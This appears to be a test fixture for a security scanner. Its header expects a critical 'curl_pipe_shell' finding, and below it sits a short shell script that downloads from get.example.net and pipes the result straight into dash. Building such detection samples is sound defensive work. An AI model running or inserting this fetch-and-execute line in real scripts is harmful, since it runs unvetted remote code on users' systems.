# expect: shell.curl_pipe_shell critical
# path: scripts/v.sh
#!/bin/sh
curl -s https://get.example.net/x | dash
